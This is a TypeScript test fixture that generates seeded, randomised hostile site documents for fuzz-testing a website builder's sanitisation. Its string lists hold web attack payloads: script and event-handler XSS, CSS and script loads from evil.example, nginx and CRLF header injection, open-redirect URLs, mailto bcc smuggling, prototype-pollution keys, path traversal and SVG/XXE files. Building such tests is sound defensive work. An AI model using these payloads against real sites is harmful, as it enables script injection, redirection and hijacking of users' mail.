import { cataloguePages } from "@daylit/layouts/catalogue/catalogue.ts";
import { logos } from "../document/pictures/logos.ts";
import { siteFromLayout } from "../edit/from-layout.ts";

/**
 * Site documents as a stranger could send them: a site whose texts, addresses, types and keys are
 * replaced by attacks, by chance that is the same every time. Code in them sets `__ran`, and everything
 * that they load is at `evil.example`.
 */

const run = "self.__ran=1";
const evil = "//evil.example/x";

const texts = [
  `"'><img src=x onerror=${run}><svg onload=${run}><script>${run}</script>`,
  `</title></style></script><script src=${evil}.js></script>`,
  `--></noscript><base href=${evil}><iframe srcdoc="<script>${run}</script>"></iframe>`,
  `]]></svg><style>@import url(${evil}.css)</style>`,
  `" onfocus=${run} autofocus tabindex=1 style="background:url(${evil})`,
  `<meta http-equiv=refresh content="0;url=https:${evil}">`,
  `{self.__ran=1}\${self.__ran=1}*/;}location ~ . { return 301 ${evil}; }/*`,
  "&lt;script&gt;&#60;script>\u2028\u2029\u0000\u0007\u202e\ud83d\ufffe",
  `\u0001javascript:${run}\u0002words\u0003 \u0001*https:${evil}"onclick=${run}\u0002bold\u0003`,
  "\u0001mailto:a@b.example?bcc=spy@evil.example\u0002letter\u0003",
  `\u0001${evil}\u0002protocol\u0003\u0001/\\evil.example\u0002back\u0003`,
  "__proto__",
  "constructor",
  `\r\nSet-Cookie: a=b\r\n\r\n<script>${run}</script>`,
];

const addresses = [
  "https://mine.example//evil.example/",
  "https://mine.example/shop//evil.example/",
  "https://mine.example/\\evil.example/",
  "https://mine.example/%2f%2fevil.example/",
  "https://mine.example/.//evil.example",
  "https://user:secret@mine.example/",
  "https://mine.example/a;}location / { return 301 https://evil.example; }/",
  "https://mine.example/$host/{env.HOME}/#>",
  `https://mine.example/"><script src=${evil}></script>/`,
  "https://mine.example/a b/\n\tmore'`/",
  "https://mine.example;script-src *;/",
  `https://mine.example/?"><script>${run}</script>`,
  "https://mine.example/",
  "https://mine.example/shop",
  `javascript:${run}`,
  evil,
  "data:text/html,<script>self.__ran=1</script>",
];

const services = [
  "https://a;sandbox/x",
  "https://a,script-src/x",
  "https://user:secret@forms.example/f",
  `https://forms.example/"><script>${run}</script>`,
  "https://forms.example/f/1;script-src%20*",
  `javascript:${run}`,
  "//evil.example/f",
];

const counters = [
  "https://count.example/count",
  "https://a;script-src *;/count",
  `https://count.example/"onerror=${run} a="/count`,
  "https://user:secret@count.example/count",
];

const emails = [
  "a@b.example?bcc=spy@evil.example",
  "a@b.example,spy@evil.example",
  "a@b.example;spy@evil.example",
  "a@b.example&bcc=spy@evil.example",
  "a%3Fbcc=spy@evil.example",
  `"><script>${run}</script>@b.example`,
  "a@b.example",
];

const slugs = [
  "../x",
  "/",
  "con",
  "news",
  "404",
  "a/../../b",
  "A b",
  "<script>",
  "index",
  "__proto__",
];
const tags = ["en-GB", "de", "ar", '"><script>', "x-evil", "en_GB", "de-u-co-phonebk", "__proto__"];
const types = ["png", "svg+xml", "webp", "html", "svg", "javascript", "../svg"];

const drawing = (inside: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 8 5">${inside}</svg>`;

/** Files of the owner's own, by the hash under which documents name them. */
export const hostileFiles: ReadonlyMap<string, string> = new Map(
  [
    drawing(`<script>${run}</script>`),
    drawing(`<g onload="${run}"/>`),
    drawing(`<image href="https:${evil}.png"/>`),
    drawing(`<style>@import "https:${evil}.css";</style>`),
    drawing(`<style>a{b:u<!-- -->rl(https:${evil})}</style>`),
    `<!DOCTYPE svg [<!ENTITY a "<script>${run}</script>">]>${drawing("&a;")}`,
    `<?xml-stylesheet href="https:${evil}.css"?>${drawing("")}`,
    `${" ".repeat(5000)}${drawing(`<script>${run}</script>`)}`,
    drawing(`<!-- C:\\Users\\Ann --><metadata>Ann</metadata><path d="M0 0h8v5z"/>`),
    `<!doctype html><script>${run}</script>`,
    "\x89PNG\r\n\x1a\n",
    "GIF89a",
  ].map((text, at) => [at.toString(16).padStart(64, "0"), text]),
);

/** The same numbers for the same seed (mulberry32). */
function chances(seed: number) {
  let state = seed;
  const next = () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
  const oneOf = <T>(list: readonly T[]) => list[Math.floor(next() * list.length)] as T;
  return { next, oneOf, often: (share: number) => next() < share };
}
type Chances = ReturnType<typeof chances>;

/** What stands in a place of this name. */
const poolOf = (key: string): readonly string[] =>
  key === "href" || key === "address"
    ? [
        ...addresses.filter((address) => !address.includes("secret")),
        ...emails.map((email) => `mailto:${email}`),
        ...texts,
      ]
    : key === "email"
      ? emails
      : key === "path" || key === "slug" || key === "former" || key === "id"
        ? slugs
        : texts;

function spoiled(value: unknown, key: string, by: Chances): unknown {
  if (typeof value === "string") return by.often(0.25) ? by.oneOf(poolOf(key)) : value;
  if (Array.isArray(value)) return value.map((entry) => spoiled(entry, key, by));
  if (typeof value !== "object" || value === null)
    return by.often(0.05) ? by.oneOf([...texts, -1, null, {}, []]) : value;
  const entries = Object.entries(value).map(([name, entry]) => [name, spoiled(entry, name, by)]);
  // Without it nothing is drawn: blocks and pictures keep their names most of the time.
  const kept = Object.entries(value).filter(
    ([name]) => /^(block|logo|headline|body)$/.test(name) && !by.often(0.03),
  );
  const more = by.often(0.02)
    ? [[by.oneOf(["__proto__", "constructor", texts[0]]), { hit: 1 }]]
    : [];
  return Object.fromEntries([...entries, ...kept, ...more]);
}

function pictures(by: Chances) {
  const hashes = [...hostileFiles.keys()];
  const files = () =>
    Array.from({ length: 2 }, () => ({
      ...{ width: by.oneOf([1, 480, 960]), type: by.oneOf(types), hash: by.oneOf(hashes) },
    }));
  const names = ["own-a", "own-b", "own-c", "own-logo", by.oneOf(["own-../x", "__proto__"])];
  return Object.fromEntries(
    names.map((name) => [
      name,
      { alt: by.oneOf(texts), width: 480, height: 300, focal: [0.5, 0.5], files: files() },
    ]),
  );
}

/** Pictures of the page become own ones. */
const withOwn = (value: unknown, by: Chances): unknown =>
  JSON.parse(JSON.stringify(value), (key, entry) =>
    /^(picture|image|id)$/.test(key) && typeof entry === "string" && by.often(0.5)
      ? by.oneOf(["own-a", "own-b", "own-c"])
      : entry,
  );

const starts = cataloguePages
  .filter((_, at) => at % 9 === 0)
  .map((layout) => {
    const { pages, theme, ...site } = siteFromLayout(layout);
    // Two pages say what ten do, and the same icons are drawn once.
    const alike = { ...theme, brand: "#0b7285" };
    return JSON.parse(JSON.stringify({ ...site, pages: pages.slice(0, 2), theme: alike }));
  });

export function hostileSite(seed: number): Record<string, unknown> {
  const by = chances(seed);
  const start = by.oneOf(starts);
  const hashes = [...hostileFiles.keys()];
  const icons = ["icon-180", "icon-192", "icon-512", "icon-maskable"];
  const isLogo = by.often(0.4);
  const spoilt = spoiled({ ...start, pages: withOwn(start.pages, by) }, "", by) as object;
  return {
    ...spoilt,
    daylit: 1,
    theme: by.often(0.3) ? spoiled(start.theme, "", by) : start.theme,
    language: by.oneOf(tags),
    translations: [{ language: by.oneOf(tags), texts: [{ of: "Menu", text: by.oneOf(texts) }] }],
    words: {
      [by.oneOf(tags)]: { skip: by.oneOf(texts), menu: by.oneOf(texts), send: by.oneOf(texts) },
    },
    pictures: pictures(by),
    mark: isLogo
      ? {
          logo: "own-logo",
          icons: Object.fromEntries(icons.map((icon) => [icon, by.oneOf(hashes)])),
          beside: true,
        }
      : by.often(0.2)
        ? { outline: `M0 0"/><script>${run}</script>` }
        : { outline: logos.circle },
    address: by.oneOf(addresses),
    form: by.oneOf([
      { way: "mail" },
      { way: "host" },
      ...services.map((address) => ({ way: "service", address })),
    ]),
    counter: by.oneOf(counters),
    notice: { text: by.oneOf(texts), until: by.oneOf(["2099-01-01", ...texts]) },
    posts: [
      {
        slug: by.oneOf(slugs),
        date: by.oneOf(["2026-11-17", ...texts]),
        title: by.oneOf(texts),
        picture: "own-a",
        text: [{ text: by.oneOf(texts) }, by.oneOf(texts)],
      },
    ],
    kind: by.oneOf(["Bakery", ...texts]),
  };
}
